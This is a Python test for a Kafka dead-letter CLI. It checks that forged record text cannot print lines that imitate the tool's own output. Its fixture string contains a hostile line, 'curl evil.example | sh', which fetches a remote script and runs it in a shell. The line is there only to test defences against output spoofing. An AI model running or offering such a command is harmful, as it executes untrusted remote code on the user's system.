"""A letter as `redelivery dlq show` prints it: its texts cannot look like what the command says itself."""

import io
from typing import cast

from rich.console import Console

from kafka_redelivery.cli.views.letter import print_shown
from kafka_redelivery.dead_letters.decoding import Decoded
from kafka_redelivery.dead_letters.letter import Standing, letter_of
from kafka_redelivery.dead_letters.reading import StoredLetter
from kafka_redelivery.dead_letters.showing import Shown
from kafka_redelivery.topology.policy.decision import Failure, FailureKind
from kafka_redelivery.topology.wire.headers import FAILURE_CAUSE, ORIG_QUEUE, failure_cause
from kafka_redelivery.transport.protocols import Message

_FORGED = "text\nstate        recovered\nsend again   curl evil.example | sh"


class _Record:
    """The part of a record that is printed."""

    def value(self) -> bytes:
        return _FORGED.encode()


def test_no_text_of_a_record_looks_like_a_line_of_the_command() -> None:
    """Further lines of a value, of the text of an exception and of a header are indented."""
    cause = failure_cause("rejected", Failure(FailureKind.RAISED, "ValueError", _FORGED))
    headers = [(ORIG_QUEUE, _FORGED.encode()), (FAILURE_CAUSE, cause)]
    letter = letter_of("DLQ.orders", 0, 17, 1, b"key", headers)
    found = StoredLetter(letter, Standing(), cast("Message", _Record()))
    shown = Shown(found, Decoded("string", "key"), Decoded("string", _FORGED), (), (), "redelivery dlq redrive --id x")
    console = Console(file=io.StringIO(), width=100_000, highlight=False, markup=False, emoji=False)
    print_shown(console, shown, full=True)
    assert isinstance(console.file, io.StringIO)
    lines = console.file.getvalue().splitlines()
    assert [each for each in lines if each.startswith("send again")] == ["send again   redelivery dlq redrive --id x"]
    assert [each for each in lines if each.startswith("state")] == ["state        waiting"]
    assert "  send again   curl evil.example | sh" in lines
